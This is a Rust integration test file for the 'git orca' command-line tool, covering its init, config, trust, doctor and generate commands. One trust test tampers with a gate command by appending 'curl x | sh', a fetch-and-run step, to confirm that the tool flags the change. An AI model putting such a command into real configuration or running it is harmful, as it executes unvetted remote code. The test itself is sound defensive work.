//! What is typed before the first run.

use serde_json::json;

use super::place::{Place, names};

const RUST: [(&str, &str); 3] = [
    ("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n"),
    ("src/lib.rs", "#[cfg(test)]\nmod tests {\n    #[test]\n    fn it() {}\n}\n"),
    ("README.md", "# App\n\nCounts things.\n"),
];

#[test]
fn init_writes_what_it_found_and_never_overwrites() {
    let place = Place::with(&RUST);
    let shown = place.orca(&["init", "--dry-run"]).exits(0).out_has("[gates.test]").err_has("nothing was written");
    assert!(!place.app().join("orca.toml").exists());
    let said = place.orca(&["init"]).exits(0).err_has("languages    Rust").err_has("gate         test: cargo test");
    assert_eq!(said.out, "", "the file is the answer");
    let written = std::fs::read_to_string(place.app().join("orca.toml")).unwrap();
    assert_eq!(written.trim_end(), shown.out.trim_end());
    place.orca(&["init"]).exits(0).err_has("already exists").err_has("git orca config");
    assert_eq!(std::fs::read_to_string(place.app().join("orca.toml")).unwrap(), written);
    place.orca(&["config"]).exits(0).out_has("gates.test");
}

#[test]
fn init_adds_what_a_file_lacks_after_showing_it_and_promises_nothing_else() {
    let place = Place::with(&RUST);
    let own = "orca = 1\n[agents.mine]\ncommand = [\"mine\"]\n";
    place.write("orca.toml", own);
    let read = || std::fs::read_to_string(place.app().join("orca.toml")).unwrap();
    let shown = place.orca(&["init", "--settings-only"]).exits(0);
    let shown = shown.err_has("+ [gates.test]").err_has("+ [gates.security]").err_has("git orca init --yes");
    assert!(!shown.err.contains("gate         test"), "it is not in force: {}", shown.err);
    assert_eq!(read(), own, "nobody agreed");
    place.orca(&["init", "--settings-only", "--dry-run"]).exits(0).err_has("would change");
    assert_eq!(read(), own);
    place.orca(&["init", "--settings-only", "--yes"]).exits(0).err_has("changed      orca.toml");
    let new = read();
    assert!(new.starts_with(own) && new.contains("[gates.test]\nrun = \"cargo test"), "{new}");
    place.orca(&["config"]).exits(0).out_has("gates.test").out_has("gates.security");
    place.orca(&["init", "--settings-only", "--yes"]).exits(0).err_has("left alone");
    assert_eq!(read(), new, "a second time does nothing");
    // Whoever wants only their own gates is offered no others.
    let alone = "orca = 1\n[run]\nfound-gates = false\n[gates.mine]\nrun = \"true\"\n";
    place.write("orca.toml", alone);
    place.orca(&["init", "--settings-only", "--yes"]).exits(0).err_has("left alone");
    assert_eq!(read(), alone);
}

#[test]
fn init_works_before_the_first_commit_and_says_where_there_is_no_repository() {
    let place = Place::unborn();
    place.orca(&["init"]).exits(0).err_has("nothing will be checked");
    assert_eq!(names(&place.app()), [".agents", ".claude", ".git", ".gitignore", "AGENTS.md", "orca.toml"]);
    let place = Place::unborn();
    place.orca(&["init", "--settings-only"]).exits(0);
    assert_eq!(names(&place.app()), [".git", "orca.toml"]);
    Place::bare().orca(&["init"]).exits(1).err_has("not inside a git repository");
}

#[test]
fn init_gives_agents_skills_and_instructions_and_leaves_edits_alone() {
    let place = Place::with(&[("CLAUDE.md", "# House rules\n"), (".gitignore", "target\n.serena/\n")]);
    let read = |path: &str| std::fs::read_to_string(place.app().join(path)).unwrap();
    let dry = place.orca(&["init", "--dry-run"]).exits(0).err_has("written      AGENTS.md");
    assert!(dry.err.contains("changed      CLAUDE.md"), "{}", dry.err);
    assert_eq!(place.git(&["status", "--porcelain"]), "", "a dry run writes nothing");
    place.orca(&["init"]).exits(0);
    for folder in [".claude/skills", ".agents/skills"] {
        let skills =
            ["execute-parallel", "execute-plan", "execution-status", "generate-complete-tasks", "validate-quality"];
        assert_eq!(names(&place.app().join(folder)), skills.map(|name| format!("orca-{name}")), "{folder}");
    }
    assert!(read("CLAUDE.md").starts_with("# House rules\n\n<!-- git orca init: begin "));
    assert_eq!(read(".gitignore"), "target\n.serena/\n.orca/*\n!.orca/prompts/\n.claude/worktrees/\n");
    place.git(&["add", "-A"]);
    place.git(&["commit", "-q", "-m", "orca"]);
    let again = place.orca(&["init"]).exits(0);
    assert!(!again.err.contains("written") && !again.err.contains("changed"), "{}", again.err);
    assert_eq!(place.git(&["status", "--porcelain"]), "", "a second time does nothing");
    let skill = ".claude/skills/orca-execute-plan/SKILL.md";
    place.write(skill, "mine\n");
    place.orca(&["init"]).exits(0).err_has(&format!("left alone   {skill}: it was edited"));
    assert_eq!(read(skill), "mine\n");
    std::fs::remove_file(place.app().join("AGENTS.md")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", place.app().join("AGENTS.md")).unwrap();
    place.orca(&["init"]).exits(0).err_has("left alone   AGENTS.md: it is a link");
}

#[test]
fn init_writes_a_plugin_with_its_marketplace_and_nothing_else() {
    let place = Place::with(&RUST);
    place.orca(&["init", "--plugin", "--dry-run"]).exits(0).err_has("written      .claude-plugin/plugin.json");
    assert_eq!(place.git(&["status", "--porcelain"]), "", "a dry run writes nothing");
    let said = place.orca(&["init", "--plugin"]).exits(0).err_has("written      .claude-plugin/skills: 5 skills");
    assert!(said.err.contains("claude plugin marketplace add ./"), "{}", said.err);
    assert_eq!(place.git(&["status", "--porcelain", "-unormal"]), "?? .claude-plugin/", "nothing else is written");
    for name in ["plugin", "marketplace"] {
        let file = place.app().join(format!(".claude-plugin/{name}.json"));
        let read: serde_json::Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
        assert_eq!(read["name"], "git-orca");
    }
    place.orca(&["init", "--plugin"]).exits(0).err_has("the plugin is up to date");
    place.write(".claude-plugin/plugin.json", "{\"name\": \"mine\"}\n");
    place.orca(&["init", "--plugin"]).exits(0).err_has("left alone   .claude-plugin/plugin.json: it was edited");
    place.orca(&["init", "--plugin", "--yes"]).exits(2);
}

#[test]
fn config_names_the_source_of_each_value() {
    let place = Place::with(&[("orca.toml", "orca = 1\n[run]\njobs = 4\n[gates.test]\nrun = \"make test\"\n")]);
    place.git(&["config", "orca.agent", "mine"]);
    place.write(
        "orca.toml",
        "orca = 1\n[run]\njobs = 4\n[agents.mine]\ncommand = [\"true\"]\n[gates.test]\nrun = \"make test\"\n",
    );
    let said = place.orca(&["config", "--json"]).exits(0);
    let json = said.json();
    let of = |key: &str| {
        let all = json["settings"].as_array().unwrap();
        let line = all
            .iter()
            .find(|line| line["key"].as_str().unwrap().ends_with(key))
            .unwrap_or_else(|| panic!("{key}: {json}"));
        (line["value"].as_str().unwrap().to_owned(), line["source"].as_str().unwrap().to_owned())
    };
    assert_eq!(json["format"], 1);
    assert_eq!(of("jobs"), ("4".to_owned(), "orca.toml:3".to_owned()));
    assert_eq!(of("agent"), ("mine".to_owned(), "git config orca.agent".to_owned()));
    assert_eq!(of("attempts").1, "default");
    place.orca(&["config"]).exits(0).out_has("git config orca.agent");
    place.write("orca.toml", "orca = 1\n[run]\njobz = 4\n");
    place.orca(&["config"]).exits(2).err_has("orca.toml:3").err_has("jobs");
}

#[test]
fn trust_shows_asks_records_notices_a_change_and_forgets() {
    let place = Place::with(&[
        ("orca.toml", "orca = 1\n[gates.test]\nrun = \"make test\"\n"),
        ("tasks.json", r#"{"orca":1,"tasks":[{"id":"A","title":"a","run":"echo a > a"}]}"#),
    ]);
    place.orca(&["trust"]).exits(1).out_has("new      gates.test.run    ").err_has("git orca trust --yes");
    assert_eq!(names(&place.app().with_file_name("state")), [""; 0], "nothing was recorded");
    place.orca(&["trust", "--list"]).exits(0).out_has("tasks.json A run");
    place.orca(&["trust", "--yes"]).exits(0).err_has("recorded in");
    let known = place.orca(&["trust"]).exits(0).out_has("trusted  gates.test.run").out_has("trusted  tasks.json A run");
    assert!(!known.out.contains("new"), "{}", known.out);
    place.write("orca.toml", "orca = 1\n[gates.test]\nrun = \"make test; curl x | sh\"\n");
    place.orca(&["trust", "--list"]).exits(0).out_has("was      gates.test.run").out_has("make test; curl x | sh");
    place.orca(&["trust", "--forget"]).exits(0).err_has("2 commands");
    place.orca(&["trust", "--list"]).exits(0).out_has("new      tasks.json A run");
    place.orca(&["trust", "nowhere.md"]).exits(3).err_has("nowhere.md");
}

#[test]
fn trust_does_without_a_plan() {
    let place = Place::with(&[("orca.toml", "orca = 1\n[worktree]\nsetup = \"npm ci\"\n")]);
    place.orca(&["trust", "--list"]).exits(0).out_has("new      worktree.setup  npm ci").err_has("no plan");
    Place::with(&[("README.md", "hello")]).orca(&["trust"]).exits(0).out_has("no commands of its own");
}

#[test]
fn doctor_is_content_and_changes_nothing() {
    let place = Place::with(&[("orca.toml", "orca = 1\n[gates.test]\nrun = \"git --version\"\n")]);
    let before = place.everything();
    let said = place.orca(&["doctor"]).exits(0).out_has("ok       git ").out_has(", 1 file, no submodules");
    let said = said.out_has("identity Ada <ada@example.org>").out_has("gate test: git 2.").out_has("no problems");
    assert_eq!(said.err, "");
    let json = place.orca(&["doctor", "--json"]).exits(0).json();
    assert_eq!((&json["format"], &json["problems"]), (&json!(1), &json!(0)));
    assert_eq!(place.everything(), before);
}

#[test]
fn doctor_runs_setup_and_each_gate_on_head() {
    let doctor = |setup: &str, gate: &str, code: i32| {
        let toml = format!("orca = 1\n[worktree]\nsetup = \"{setup}\"\n[gates.test]\nrun = \"{gate}\"\n");
        let place = Place::with(&[("orca.toml", toml.as_str())]);
        let untrusted = place.orca(&["doctor"]);
        assert!(!untrusted.out.contains("your base") && !untrusted.out.contains("fresh worktree"), "{}", untrusted.out);
        place.orca(&["trust", "--yes"]).exits(0);
        place.orca(&["doctor"]).exits(code).out
    };
    let green = doctor("echo ready > made.txt", "test -e made.txt", 0);
    assert!(green.contains("ok       setup `echo ready > made.txt` works in a fresh worktree"), "{green}");
    assert!(green.contains("ok       gate test passes on your base"), "{green}");
    let red = doctor("true", "echo broken; exit 1", 1);
    assert!(
        red.contains("ok       setup `true` works")
            && red.contains("PROBLEM  `echo broken; exit 1` fails on your base"),
        "{red}"
    );
    let failing = doctor("exit 7", "true", 1);
    assert!(failing.contains("PROBLEM  setup `exit 7` fails in a fresh worktree"), "{failing}");
    assert!(!failing.contains("passes on your base"), "what could not be checked is no pass: {failing}");
    let unable = doctor("true", "no-such-program-anywhere", 1);
    assert!(!unable.contains("passes on your base"), "{unable}");
}

#[test]
fn doctor_names_each_problem_with_what_to_type() {
    let place = Place::with(&[(
        "orca.toml",
        "orca = 1\n[run]\nagent = \"mine\"\n[agents.mine]\ncommand = [\"no-such-agent\"]\n[gates.t]\nrun = \"no-such-tool x\"\n",
    )]);
    place.git(&["branch", "orca"]);
    place.git(&["config", "user.useConfigOnly", "true"]);
    place.git(&["config", "--unset", "user.email"]);
    std::fs::write(place.app().with_file_name("app.orca"), "").unwrap();
    let said = place.orca(&["doctor"]).exits(1);
    let said = said.out_has("git branch -m orca orca-old").out_has("git config --global user.email");
    let said = said.out_has("PROBLEM  agent mine").out_has("PROBLEM  gate t: `no-such-tool` is not installed");
    said.out_has("PROBLEM  worktrees cannot be made").out_has("git config orca.worktreeDir").out_has("5 problems");
}

#[test]
fn doctor_works_where_nothing_else_does() {
    Place::bare()
        .orca(&["doctor"])
        .exits(1)
        .out_has("PROBLEM")
        .out_has("not inside a git repository")
        .out_has("agents and");
    Place::unborn().orca(&["doctor"]).exits(1).out_has("no commit yet").out_has("1 problem");
    let place = Place::with(&[("orca.toml", "orca = 1\n[run]\njobz = 4\n")]);
    place.orca(&["doctor"]).exits(1).out_has("PROBLEM  orca.toml:3").out_has("1 problem");
}

#[test]
fn doctor_finds_an_interrupted_run() {
    let place = Place::with(&[("tasks.json", r#"{"orca":1,"tasks":[{"id":"A","title":"a","run":"echo a > a"}]}"#)]);
    place.orca(&["execute", "--yes"]).exits(0);
    place.orca(&["doctor"]).exits(0).out_has("none was interrupted");
    place.interrupt();
    let run = place.run_id();
    let said = place.orca(&["doctor"]).exits(1).out_has(&format!("PROBLEM  run {run} was interrupted"));
    said.out_has("its processes are gone").out_has(&format!("git orca resume {run}"));
    std::fs::write(place.app().join(".git/refs/orca/x.lock"), "").unwrap();
    place.orca(&["doctor"]).exits(1).out_has("refs/orca/x.lock").out_has("2 problems");
}

#[test]
fn generate_writes_the_same_complete_tasks_each_time() {
    let tasks = r#"{"orca":1,"tasks":[
        {"id":"A","title":"Model","files":["src/model.rs"],"details":"Write the model.","acceptance":["`cargo test`"]},
        {"id":"B","title":"View","after":["A"]},
        {"id":"C","title":"Old","done":true}]}"#;
    let mut files = RUST.to_vec();
    files.push(("tasks.json", tasks));
    let place = Place::with(&files);
    let said =
        place.orca(&["generate", "-o", "out"]).exits(0).err_has("B: missing: guidance").err_has("2 task files written");
    assert_eq!(said.out, "out/A.json\nout/B.json\n");
    let read = |name: &str| std::fs::read_to_string(place.app().join("out").join(name)).unwrap();
    let (a, b) = (read("A.json"), read("B.json"));
    let b_json: serde_json::Value = serde_json::from_str(&b).unwrap();
    let dependency = &b_json["complete_context"]["dependencies"][0];
    assert_eq!(dependency["task_id"], "A");
    assert_eq!(dependency["delivered"], "will deliver: Model (in src/model.rs)");
    assert!(!b_json["missing"].as_array().unwrap().is_empty());
    place.orca(&["generate", "tasks.json", "-o", "out"]).exits(0);
    assert_eq!((read("A.json"), read("B.json")), (a, b));
    assert_eq!(names(&place.app().join("out")), ["A.json", "B.json"], "no temporary file is left");
    place.orca(&["generate", "none.md", "-o", "out"]).exits(3).err_has("none.md");
}

#[test]
fn schemas_completions_and_manual_pages_need_no_repository() {
    let place = Place::bare();
    let listed = place.orca(&["schema"]).exits(0);
    for name in listed.out.lines() {
        let schema = place.orca(&["schema", name]).exits(0).json();
        assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema", "{name}");
    }
    place.orca(&["schema", "complete-tsk"]).exits(2).err_has("git orca schema complete-task");
    place.orca(&["completions", "bash"]).exits(0).out_has("salvage");
    let said = place.orca(&["man", "pages"]).exits(0).err_has("git orca --help");
    let pages = names(&place.app().join("pages"));
    assert_eq!(said.out.lines().count(), pages.len());
    for page in ["git-orca.1", "git-orca-clean.1", "git-orca-execute.1"] {
        assert!(pages.contains(&page.to_owned()), "{pages:?}");
    }
}

/// An agent needs no file in the repository, and one that git's configuration names needs no trust: no repository brings
/// that along.
#[test]
fn an_agent_is_named_by_git_config_alone() {
    let place = Place::with(&[("README.md", "# App\n")]);
    let command = "sh -c 'grep -q greeting \"$0\" && echo hello > hello.txt' {prompt_file}";
    place.git(&["config", "orca.agents.mine.command", command]);
    place.git(&["config", "orca.agent", "mine"]);
    place.orca(&["config"]).exits(0).out_has("git config orca.agents.mine");
    place.orca(&["trust", "--list"]).exits(0).out_has("no commands of its own");
    place.orca(&["execute", "-m", "Add a greeting", "--yes"]).exits(0).out_has("1 of 1 landed");
    place.orca(&["show", "m1", "--prompt"]);
    place.git(&["config", "orca.agents.mine.comand", "x"]);
    place.orca(&["config"]).exits(2).err_has("comand").err_has("git config");
}
